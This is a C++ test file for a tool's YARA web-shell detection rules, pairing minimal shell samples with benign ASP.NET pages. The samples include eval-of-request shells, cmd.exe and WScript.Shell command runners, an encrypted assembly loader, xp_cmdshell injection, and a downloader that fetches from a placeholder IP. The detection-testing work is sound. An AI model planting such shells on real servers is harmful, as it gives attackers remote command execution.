// Our rules/ on minimal, hand-written examples of each technique (harmless text: the
// parameter names and payloads are placeholders) and on benign ASP.NET snippets of the kind
// Exchange's own owa/ecp pages and ordinary sites contain. A rule must fire on the technique,
// written a different way than any corpus file, and stay quiet on the benign pages.
#include <gtest/gtest.h>

#include <algorithm>

#include "detect/yara_scanner.h"
#include "support/rule_examples.h"

namespace shellcarve::detect {
namespace {

using test::BenignExample;
using test::TechniqueExample;

using Example = test::RuleExample;

TEST(OurRules, CompileWithMetaOnEveryRule) {
  auto sources = collect_rule_files(SHELLCARVE_SOURCE_DIR "/rules", "default");
  ASSERT_TRUE(sources) << sources.error().message;
  auto rules = YaraRules::compile(*sources);
  ASSERT_TRUE(rules) << rules.error().message;
  EXPECT_GE((*rules)->report().rule_count, 20u);
  EXPECT_EQ((*rules)->report().warnings_total, 0u)
      << ((*rules)->report().warnings.empty() ? "" : (*rules)->report().warnings[0]);
}

// One or more examples per technique; each names the rule written for it.
const Example kShells[] = {
    {"jscript_chopper_item", "/owa/auth/x.aspx",
     R"(<%@ Page Language="JScript" %><% eval(Request.Item["k"], "unsafe"); %>)",
     "SC_ChinaChopper_JScript_Eval_Unsafe"},
    {"jscript_chopper_form_spaces", "/x.aspx",
     "<%@ Page Language = \"Jscript\" Debug=false %>\n<%\n  eval ( Request.Form [ \"p\" ] ,  'unsafe' ) ;\n%>",
     "SC_ChinaChopper_JScript_Eval_Unsafe"},
    {"jscript_chopper_split_unsafe", "/x.aspx",
     R"(<%@ Page Language="JScript" %><% var w = "un" + "safe"; eval(Request["k"], w); %>)",
     "SC_ChinaChopper_JScript_Eval_Unsafe"},
    {"oab_external_url", "/FrontEnd/HttpProxy/owa/auth/oab.aspx",
     "Name                            : OAB (Default Web Site)\r\n"
     "PollInterval                    : 480\r\n"
     "OfflineAddressBooks             : \\Default Offline Address Book\r\n"
     "RequireSSL                      : True\r\n"
     "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function "
     "Page_Load(){eval(Request[\"p\"],\"unsafe\");}</script>\r\n"
     "InternalUrl                     : https://mail.example.org/OAB\r\n",
     "SC_Exchange_OAB_VirtualDirectory_Script"},
    {"vb_eval_request", "/x.asp", "<%eval request(\"k\")%>", "SC_ChinaChopper_Eval_Request"},
    {"vb_execute_form", "/x.asp", "<%\r\nExecute(Request.Form(\"k\"))\r\n%>", "SC_ChinaChopper_Eval_Request"},
    {"vb_executeglobal_indirect", "/x.asp",
     "<%\r\nDim v\r\nv = Request.QueryString(\"k\")\r\nExecuteGlobal v\r\n%>",
     "SC_ChinaChopper_Eval_Request_Indirect"},
    {"vb_execute_chr_decoder", "/x.asp",
     "<%\r\nFunction D(s)\r\nFor i = 1 To Len(s)\r\nD = D & Chr(Asc(Mid(s, i, 1)) - 1)\r\nNext\r\nEnd Function\r\n"
     "Execute D(\"fwbm!sfrvftu)#l#*\")\r\n%>",
     "SC_VBScript_Execute_Decoded"},
    {"vb_execute_strreverse", "/x.asp", "<% ExecuteGlobal StrReverse(\")\"\"k\"\"(tseuqer lave\") %>",
     "SC_VBScript_Execute_Decoded"},
    {"jscript_eval_base64", "/x.aspx",
     "<%@ Page Language=\"JScript\" %><% eval(System.Text.Encoding.UTF8.GetString("
     "System.Convert.FromBase64String(\"cGxhY2Vob2xkZXI=\")), \"unsafe\"); %>",
     "SC_JScript_Eval_Decoded"},
    {"jscript_eval_fromcharcode", "/x.aspx",
     "<script runat=\"server\" language=\"JScript\">function Page_Load(){ eval(String.fromCharCode(49,43,49)); }</script>",
     "SC_JScript_Eval_Decoded"},
    {"csharp_assembly_loader", "/x.aspx",
     "<%@ Page Language=\"C#\" %><% byte[] k = System.Text.Encoding.Default.GetBytes(\"0123456789abcdef\");"
     " byte[] c = System.Convert.FromBase64String(Request.Form[\"d\"]);"
     " var a = System.Reflection.Assembly.Load(new System.Security.Cryptography.AesManaged()"
     ".CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)); a.CreateInstance(\"P\").Equals(Context); %>",
     "SC_Assembly_Load_From_Request"},
    {"csharp_assembly_loader_binaryread", "/x.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Reflection;\npublic class H : System.Web.IHttpHandler {\n"
     " public void ProcessRequest(System.Web.HttpContext c) {\n"
     "  byte[] b = c.Request.BinaryRead(c.Request.ContentLength);\n"
     "  Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(b, b).TransformFinalBlock(b, 16, 16))"
     ".CreateInstance(\"X\").Equals(c);\n }\n public bool IsReusable { get { return false; } }\n}\n",
     "SC_Assembly_Instance_Equals_Context"},
    {"csharp_process_cmd", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s, EventArgs e) {"
     " var p = new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Form[\"c\"]);"
     " p.RedirectStandardOutput = true; p.UseShellExecute = false;"
     " Response.Write(System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd()); }</script>",
     "SC_ASPX_Process_Shell"},
    {"vbnet_process_powershell", "/x.aspx",
     "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load()\r\n"
     "Dim p As New Process()\r\np.StartInfo.FileName = \"powershell.exe\"\r\n"
     "p.StartInfo.Arguments = Request.QueryString(\"a\")\r\np.Start()\r\nEnd Sub</script>",
     "SC_ASPX_Process_Shell"},
    {"asp_wscript_shell", "/x.asp",
     "<%\r\nSet sh = Server.CreateObject(\"WScript.Shell\")\r\n"
     "Set ex = sh.Exec(\"cmd /c \" & Request(\"c\"))\r\nResponse.Write ex.StdOut.ReadAll()\r\n%>",
     "SC_ASP_WScript_Shell_Exec"},
    {"aspx_upload_to_chosen_path", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Up(object s, EventArgs e) {"
     " FileUpload1.PostedFile.SaveAs(txtPath.Text); }</script>",
     "SC_ASPX_Upload_To_Chosen_Path"},
    {"aspx_file_manager", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() { string d = Request[\"d\"];"
     " foreach (var drive in System.IO.DriveInfo.GetDrives()) {} foreach (var f in System.IO.Directory.GetFiles(d)) {}"
     " if (Request[\"del\"] != null) System.IO.File.Delete(Request[\"del\"]);"
     " System.IO.File.SetLastWriteTime(Request[\"t\"], System.DateTime.Now.AddYears(-3)); }</script>",
     "SC_ASPX_File_Manager"},
    {"asp_fso_writer", "/x.asp",
     "<%\r\np = Request.Form(\"p\")\r\nc = Request.Form(\"c\")\r\n"
     "Set fs = Server.CreateObject(\"Scripting.FileSystemObject\")\r\n"
     "Set f = fs.CreateTextFile(Server.MapPath(p), True)\r\nf.Write c\r\nf.Close\r\n%>",
     "SC_ASP_Small_File_Writer"},
    {"asp_downloader", "/x.asp",
     "<%\r\nSet h = Server.CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nh.Open \"GET\", \"http://198.51.100.7/a.txt\", False\r\n"
     "h.Send\r\nSet s = Server.CreateObject(\"ADODB.Stream\")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.ResponseBody\r\n"
     "s.SaveToFile Server.MapPath(\"b.asp\"), 2\r\n%>",
     "SC_ASP_Downloader"},
    {"asp_utf7", "/x.asp", "<%@ codepage=65000%>\r\n<% +AHIAZQBz- %>", "SC_ASP_Encoded_Or_Utf7_Script"},
    {"raw_socket_sniffer", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() {"
     " var s = new System.Net.Sockets.Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);"
     " s.IOControl(IOControlCode.ReceiveAll, new byte[] {1, 0, 0, 0}, null); }</script>",
     "SC_ASPX_Raw_Socket_Sniffer"},
    {"timestomp_aspx", "/x.aspx",
     "<%@ Page Language=\"C#\" %><% System.IO.File.SetCreationTime(Request.Form[\"f\"], "
     "System.DateTime.Parse(Request.Form[\"t\"])); %>",
     "SC_Timestomp_From_Request"},
    {"writable_folder_probe", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Scan(DirectoryInfo d) {"
     " foreach (var s in d.GetDirectories()) { try { File.Create(s.FullName + \"\\\\probe.txt\").Close();"
     " File.Delete(s.FullName + \"\\\\probe.txt\"); Response.Write(s.FullName); } catch {} Scan(s); } }</script>",
     "SC_Writable_Folder_Scanner"},
    {"jscript_eval_alias", "/x.asp",
     "<script runat=\"server\" language=\"javascript\">var t = {'run': eval}; t.run(String(Request.Form('k')));</script>",
     "SC_JScript_Eval_Alias"},
    {"split_progid", "/x.asp",
     "<% Set o = Server.CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\no.Run Request(\"c\"), 0 %>",
     "SC_ASP_Split_ProgID"},
    {"sql_xp_cmdshell", "/x.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go() { var c = new SqlConnection(cs);"
     " new SqlCommand(\"exec master..xp_cmdshell '\" + Request[\"c\"] + \"'\", c).ExecuteReader(); }</script>",
     "SC_SQL_Shell_Xp_Cmdshell"},
};

TEST_P(TechniqueExample, IsCaughtByItsRule) {
  ASSERT_TRUE(test::our_rules());
  const test::RuleExample& e = GetParam();
  const auto names = test::rules_matching(e.text, e.path);
  EXPECT_NE(std::find(names.begin(), names.end(), e.rule), names.end())
      << e.name << ": expected " << e.rule << ", got " << test::joined(names);
}

INSTANTIATE_TEST_SUITE_P(Rules, TechniqueExample, ::testing::ValuesIn(kShells), test::example_name);

// Benign pages: Exchange-like and ordinary ASP.NET that use Request, Response, eval in client
// script, Eval in data binding, uploads to a fixed folder, process-free admin pages.
const Example kBenign[] = {
    {"owa_logon_like", "/owa/auth/logon.aspx",
     "<%@ Page language=\"c#\" AutoEventWireup=\"false\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %>\r\n"
     "<% if (Request.QueryString[\"reason\"] == \"2\") { %><div class=\"signInError\">Your session has timed out.</div><% } %>\r\n"
     "<script type=\"text/javascript\">var a = eval('(' + json + ')'); function f(){ return window.eval; }</script>\r\n"
     "<input type=\"hidden\" name=\"destination\" value=\"<%=Server.HtmlEncode(Request.QueryString[\"url\"])%>\">",
     nullptr},
    {"databinding_eval", "/list.aspx",
     "<%@ Page Language=\"C#\" %><asp:Repeater runat=\"server\" ID=\"r\"><ItemTemplate>"
     "<%# Eval(\"Title\") %> <%# DataBinder.Eval(Container.DataItem, \"Url\") %></ItemTemplate></asp:Repeater>"
     "<% string q = Request[\"q\"]; Response.Write(Server.HtmlEncode(q)); %>",
     nullptr},
    {"fixed_folder_upload", "/upload.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Up(object s, EventArgs e) {"
     " foreach (string k in Request.Files) { var f = Request.Files[k];"
     " f.SaveAs(Server.MapPath(\"~/App_Data/files/\") + System.IO.Path.GetFileName(f.FileName)); } }</script>",
     nullptr},
    {"ado_classic_asp", "/news.asp",
     "<%\r\nSet conn = Server.CreateObject(\"ADODB.Connection\")\r\nconn.Open Application(\"dsn\")\r\n"
     "id = CInt(Request.QueryString(\"id\"))\r\nSet rs = conn.Execute(\"SELECT * FROM news WHERE id=\" & id)\r\n"
     "Response.Write Server.HTMLEncode(rs(\"title\"))\r\n%>",
     nullptr},
    {"packed_javascript", "/scripts/lib.js",
     "eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--)d[c]=k[c]||c;"
     "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace("
     "new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}('0.1(\"2\")',3,3,'console|log|hi'.split('|'),0,{}));"
     " var t = _.template('<% print(name) %>'); eval(String.fromCharCode(97));",
     nullptr},
    {"ecp_style_handler", "/ecp/x.ashx",
     "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler {\n"
     " public void ProcessRequest(HttpContext c) { c.Response.ContentType = \"application/json\";\n"
     "  c.Response.Write(\"{\\\"id\\\":\" + int.Parse(c.Request[\"id\"]) + \"}\"); }\n"
     " public bool IsReusable { get { return true; } }\n}\n",
     nullptr},
    {"web_config", "/web.config",
     "<?xml version=\"1.0\"?><configuration><system.web><compilation debug=\"false\" targetFramework=\"4.8\"/>"
     "<httpRuntime requestValidationMode=\"2.0\"/></system.web><appSettings><add key=\"ExternalUrl\" "
     "value=\"https://mail.example.org/owa\"/></appSettings></configuration>",
     nullptr},
    {"plugin_loader", "/admin/plugins.aspx",
     "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load() {"
     " foreach (var f in System.IO.Directory.GetFiles(Server.MapPath(\"~/bin/plugins\"), \"*.dll\"))"
     " System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(f)); }</script>",
     nullptr},
};

TEST_P(BenignExample, IsNotFlagged) {
  ASSERT_TRUE(test::our_rules());
  const test::RuleExample& e = GetParam();
  const auto names = test::rules_matching(e.text, e.path);
  EXPECT_TRUE(names.empty()) << e.name << " flagged by " << test::joined(names);
}

INSTANTIATE_TEST_SUITE_P(Rules, BenignExample, ::testing::ValuesIn(kBenign), test::example_name);

}  // namespace
}  // namespace shellcarve::detect
